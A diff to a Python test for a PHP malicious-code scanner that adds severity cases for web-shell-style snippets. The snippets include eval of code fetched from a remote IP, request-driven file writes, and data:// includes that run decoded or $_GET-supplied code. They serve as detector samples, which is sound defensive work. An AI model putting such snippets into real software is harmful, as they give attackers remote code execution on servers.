@@ -21,6 +21,14 @@ from hemostat.model.level import Level
         ("eval(file_get_contents('http://203.0.113.1/a'));", "runs-what-it-fetches", Level.HIGH),
         ("file_put_contents($_GET[1], $_GET[2]);", "writes-what-is-requested", Level.HIGH),
         ("eval(base64_decode($x));", "runs-what-it-unpacks", Level.MEDIUM),
+        ("eval(substr(strtr($template, $parts) . $x, 5));", "runs-what-it-unpacks", Level.LOW),
+        (
+            "function f($c) { include 'data://text/plain,' . urlencode($c); } f($x->code());",
+            "runs-what-it-fetches",
+            Level.LOW,
+        ),
+        ("include 'data://text/plain,' . base64_decode($c);", "runs-what-it-fetches", Level.HIGH),
+        ("include 'data://text/plain,' . $_GET['c'];", "runs-request", Level.CRITICAL),
     ],
 )
 def test_the_worth_follows_from_the_way(code: str, rule: str, level: Level) -> None:
